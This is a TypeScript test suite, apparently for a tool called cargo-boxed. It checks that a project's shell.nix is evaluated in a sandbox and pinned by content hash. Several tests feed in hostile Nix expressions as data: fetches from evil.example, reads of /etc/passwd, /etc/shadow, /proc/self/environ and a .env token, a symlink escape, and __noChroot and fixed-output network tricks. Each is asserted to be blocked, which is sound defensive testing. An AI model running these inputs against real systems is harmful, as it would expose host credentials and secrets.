import assert from 'node:assert/strict';
import { symlinkSync } from 'node:fs';
import test, { type TestContext } from 'node:test';
import { inNix, standIn } from '../support/nixpkgs/nix-home.ts';
import { type Project, plainProgram, project } from '../support/rig.ts';

// A project's own shell.nix: asked for by its content, evaluated behind a wall, built without a network.

const app = plainProgram('own-shell', 'fn main() { println!("{}", env!("FROM_SHELL")); }\n');
const shell = `{ pkgs ? import <nixpkgs> { } }:
pkgs.mkShell {
  buildInputs = [ pkgs.zlib ];
  FROM_SHELL = import ./nix/word.nix;
  shellHook = "exit 1";
}
`;
const configuration = { 'cargo-boxed.yaml': 'nix: {file: shell.nix}\n' };
const files = { ...app, ...configuration, 'shell.nix': shell, 'nix/word.nix': '"said by the shell"\n' };

async function granted(context: TestContext, texts: Readonly<Record<string, string>>): Promise<Project> {
  const made = project(context, texts);
  const given = await made.boxed(['grant', '--all'], inNix());
  assert.equal(given.status, 0, given.text);
  return made;
}

test('a shell.nix is asked for by its content, and then is the environment', async (context) => {
  const made = project(context, files);
  const asked = await made.boxed(['build'], inNix());
  assert.equal(asked.status, 77, asked.text);
  assert.match(
    asked.stderr,
    /that `shell\.nix` with `nix\/word\.nix`, as it is now, is evaluated and built on this machine/,
  );
  assert.match(asked.stderr, /cargo-boxed grant nix\.file/);
  assert.equal((await made.boxed(['grant', 'nix.file'], inNix())).status, 0);
  const ran = await made.boxed(['run'], inNix());
  assert.equal(ran.status, 0, ran.text);
  assert.equal(ran.stdout, 'said by the shell\n');
  const module = await made.boxed(['exec', '--', 'sh', '-c', 'echo "$NIX_LDFLAGS" $IN_NIX_SHELL'], inNix());
  assert.match(module.stdout, /-L\/nix\/store\/\S+-zlib\/lib$/m, module.text);

  // One letter of a file that it reads, and it is another ask.
  made.write('nix/word.nix', '"said by another"\n');
  const changed = await made.boxed(['run'], inNix());
  assert.equal(changed.status, 77, changed.text);
  assert.match(
    changed.stderr,
    /- nix\.file: shell\.nix sha256:.*granted before[\s\S]*\+ nix\.file: shell\.nix sha256:/,
  );
  assert.equal((await made.boxed(['grant', '--all'], inNix())).status, 0);
  const again = await made.boxed(['run'], inNix());
  assert.equal(again.stdout, 'said by another\n', again.text);
});

test('the lock pins it by content, and names what has changed', async (context) => {
  const made = await granted(context, files);
  const locked = await made.boxed(['lock'], inNix());
  assert.equal(locked.status, 0, locked.text);
  const { own } = JSON.parse(made.read('cargo-boxed.lock')).nix;
  assert.equal(own.path, 'shell.nix');
  assert.match(own.sha256, /^[0-9a-f]{64}$/);
  assert.equal((await made.boxed(['lock', '--check'], inNix())).status, 0);
  assert.equal((await made.boxed(['--pinned', 'run'], inNix())).stdout, 'said by the shell\n');
  made.write('shell.nix', shell.replace('pkgs.zlib', 'pkgs.zlib pkgs.zstd'));
  await made.boxed(['grant', '--all'], inNix());
  const drifted = await made.boxed(['lock', '--check'], inNix());
  assert.equal(drifted.status, 65, drifted.text);
  assert.match(drifted.stderr, /pins as its Nix environment that of shell\.nix, which has changed/);
  const updated = await made.boxed(['lock'], inNix());
  assert.match(updated.stdout, /own environment: shell\.nix [0-9a-f]{12} → shell\.nix [0-9a-f]{12}/, updated.text);
  made.write('cargo-boxed.yaml', '');
  const without = await made.boxed(['build'], inNix());
  assert.match(without.stderr, /that of shell\.nix, not our own/, without.text);
});

test('layers come on top of it, and a nixpkgs of its own is taken by its sum', async (context) => {
  const first = await granted(context, files);
  await first.boxed(['lock'], inNix());
  const { narHash } = JSON.parse(first.read('cargo-boxed.lock')).nix.nixpkgs;
  const fetching = `let pkgs = import (fetchTarball { url = "${standIn()}"; sha256 = "${narHash}"; }) { };
in { other = pkgs.hello; shells.main = pkgs.mkShell { FROM_SHELL = "of my own nixpkgs"; }; }\n`;
  const made = await granted(context, {
    ...app,
    'cargo-boxed.yaml': 'nix: {file: nix/dev.nix, shell: shells.main}\nlayers: [openssl]\n',
    'nix/dev.nix': fetching,
  });
  const ran = await made.boxed(['run'], inNix());
  assert.equal(ran.stdout, 'of my own nixpkgs\n', ran.text);
  const found = await made.boxed(['exec', '--', 'sh', '-c', 'echo $PKG_CONFIG_PATH'], inNix());
  assert.match(found.stdout, /-openssl\/lib\/pkgconfig/, found.text);
});

const body = (inside: string) => `{ pkgs ? import <nixpkgs> { } }:\npkgs.mkShell {\n  A = ${inside};\n}\n`;

for (const [name, text, status, said] of [
  [
    'has an attribute misspelt',
    'pkgs.zlibb',
    78,
    /there is no `zlibb`[\s\S]*shell\.nix:3:\d+[\s\S]*Did you mean `zlib`\?/,
  ],
  ['is no expression', '{', 78, /shell\.nix:\d:\d+[\s\S]*syntax error/],
  ['throws', 'throw "no such day"', 78, /\/shell\.nix\n = error: no such day\n$/],
  ['loops', 'let a = b: a b; in a 1', 78, /does not end/],
  ['eats memory', 'builtins.length (builtins.genList (n: toString n) 2000000000)', 78, /more than 4 GiB/],
  ['names what nothing pins', '<nixos-config>', 78, /<nixos-config> is used, and nothing pins it/],
  [
    'reads what it does not see',
    'builtins.readFile (./. + "/Cargo.toml")',
    78,
    /reads Cargo\.toml, which it does not see/,
  ],
  ['downloads', 'fetchTarball "https://evil.example/a.tar.gz"', 77, /wants https:\/\/evil\.example\/a\.tar\.gz/],
  ['reads a file of the host', 'builtins.readFile "/etc/passwd"', 77, /wants \/etc\/passwd/],
  ['reads a folder of the host', 'builtins.attrNames (builtins.readDir "/etc")', 77, /wants \/etc/],
  ['takes a file along', `"\${/etc/hosts}"`, 77, /wants \/etc\/hosts/],
  ['climbs out', 'builtins.readFile ./../../../../etc/hosts', 77, /wants \/etc\/hosts/],
  ['imports a file of the host', 'import /usr/share/nix/corepkgs/config.nix', 77, /wants \/usr/],
  ['reads its own process', 'builtins.readFile "/proc/self/environ"', 77, /wants \/proc\/self\/environ/],
  [
    'fetches a file',
    'builtins.readFile (builtins.fetchurl "file:///etc/passwd")',
    77,
    /wants (file:\/\/)?\/etc\/passwd/,
  ],
  [
    'builds to evaluate',
    'builtins.readFile (derivation { name = "x"; system = "x86_64-linux"; builder = "/bin/sh"; })',
    77,
    /wanted to build something/,
  ],
  ['fetches by git', 'builtins.fetchGit "https://evil.example/a.git"', 77, /wants https:\/\/evil\.example\/a\.git/],
  ['starts a program', 'builtins.exec [ "/bin/sh" "-c" "id" ]', 78, /there is no `exec`/],
] as const) {
  test(`a shell.nix that ${name} ends with what to do, and shows nothing of the host`, async (context) => {
    const made = await granted(context, { ...app, ...configuration, 'shell.nix': body(text) });
    const ended = await made.boxed(['build'], inNix());
    assert.equal(ended.status, status, ended.text);
    assert.match(ended.stderr, said);
    assert.doesNotMatch(ended.stderr, /root:x:0|localhost/);
  });
}

test('an evaluation that does not end is given up', async (context) => {
  const endless =
    'let n = builtins.genList (x: x) 4000000; in builtins.foldl\' (s: _: builtins.foldl\' (i: _: builtins.hashString "sha512" i) s n) "" n';
  const made = await granted(context, { ...app, ...configuration, 'shell.nix': body(endless) });
  const ended = await made.boxed(['--limit', 'time=4s', 'build'], inNix());
  assert.equal(ended.status, 124, ended.text);
});

test('variables of the host, its secrets and its files are not there to be read', async (context) => {
  const canary = 'canary-of-the-host';
  const text = body(
    'builtins.toJSON [ (builtins.getEnv "HOME") (builtins.getEnv "CANARY") (builtins.pathExists "/root") (builtins.currentTime > 0) ]',
  );
  const made = await granted(context, { ...app, ...configuration, 'shell.nix': text });
  const ended = await made.boxed(['exec', '--', 'sh', '-c', 'echo $A'], inNix({ CANARY: canary }));
  assert.doesNotMatch(ended.text, new RegExp(canary));
  assert.match(ended.text, /\["","",false|forbidden|wants \/root/, ended.text);
});

test('builders see no file of the host, and what is fixed has no network unless it is granted', async (context) => {
  const built = (more: string) => `{ pkgs ? import <nixpkgs> { } }:
pkgs.mkShell {
  A = "\${derivation {
    name = "peek"; system = "x86_64-linux"; builder = "\${pkgs.bash}/bin/bash"; ${more}
    args = [ "-c" "for f in /etc/shadow /root/.bashrc /home/* ${process.cwd()}/package.json; do [ -e $f ] && echo saw $f; done > $out; [ -d /sys/class/net ] && echo sys >> $out; while read -r a b; do echo $a >> $out; done < /proc/net/dev; true" ];
  }}";
}
`;
  const made = await granted(context, { ...app, ...configuration, 'shell.nix': built('') });
  const seen = await made.boxed(['exec', '--', 'sh', '-c', 'while read -r a; do echo "$a"; done < $A'], inNix());
  assert.equal(seen.status, 0, seen.text);
  assert.doesNotMatch(seen.stdout, /saw|eth|ens/);
  assert.match(seen.stdout, /lo:/);

  made.write('shell.nix', built('__noChroot = true;'));
  await made.boxed(['grant', '--all'], inNix());
  const open = await made.boxed(['build'], inNix());
  assert.notEqual(open.status, 0, open.text);
  assert.match(open.stderr, /noChroot/);

  const sum = '0'.repeat(64);
  made.write('shell.nix', built(`outputHash = "${sum}"; outputHashAlgo = "sha256"; outputHashMode = "flat";`));
  await made.boxed(['grant', '--all'], inNix());
  const fixed = await made.boxed(['build'], inNix());
  assert.equal(fixed.status, 77, fixed.text);
  assert.match(fixed.stderr, new RegExp(`builds what Nix gives a network[\\s\\S]*peek:sha256:${sum}`));
  // Behind two thousand others it is found too.
  const hidden = `builtins.genList (n: derivation { name = "z\${toString n}"; system = "x86_64-linux"; builder = "/x"; }) 2000`;
  made.write('shell.nix', made.read('shell.nix').replace('  A =', `  B = ${hidden};\n  A =`));
  await made.boxed(['grant', '--all'], inNix());
  const many = await made.boxed(['build'], inNix());
  assert.equal(many.status, 77, many.text);
  assert.match(many.stderr, /peek:sha256:/);
  made.write('shell.nix', built(`outputHash = "${sum}"; outputHashAlgo = "sha256"; outputHashMode = "flat";`));
  made.write('cargo-boxed.yaml', `nix: {file: shell.nix, fetches: ["peek:sha256:${sum}"]}\n`);
  const asked = await made.boxed(['build'], inNix());
  assert.equal(asked.status, 77, asked.text);
  assert.match(asked.stderr, /that `peek:sha256:0{64}` of its Nix environment is built on this machine with a network/);
  await made.boxed(['grant', '--all'], inNix());
  const mismatch = await made.boxed(['build'], inNix());
  assert.notEqual(mismatch.status, 77, mismatch.text);
  assert.match(mismatch.stderr, /peek has fetched is not what it names by its sum/);
});

test('files that lead out of the project, or hold secrets, are no part of it', async (context) => {
  const made = project(context, {
    ...app,
    'cargo-boxed.yaml': 'nix: {file: shell.nix}\n',
    'shell.nix': body('builtins.readFile ./.env'),
    '.env': 'TOKEN=canary\n',
  });
  await made.boxed(['grant', '--all'], inNix());
  const secret = await made.boxed(['build'], inNix());
  assert.equal(secret.status, 78, secret.text);
  assert.match(secret.stderr, /reads \.env, which it does not see/);
  assert.doesNotMatch(secret.text, /TOKEN/);
  made.write('shell.nix', body('import ./out.nix'));
  symlinkSync('/etc/passwd', made.path('out.nix'));
  const linked = await made.boxed(['build'], inNix());
  assert.equal(linked.status, 77, linked.text);
  assert.match(linked.stderr, /out\.nix leads out of the project/);
  made.write('cargo-boxed.yaml', 'nix: {file: missing.nix}\n');
  assert.match((await made.boxed(['build'], inNix())).stderr, /there is no \S+\/missing\.nix/);
  made.write('cargo-boxed.yaml', 'nix: {file: shell.nix, flake: .}\n');
  assert.match((await made.boxed(['build'], inNix())).stderr, /both name an environment/);
});
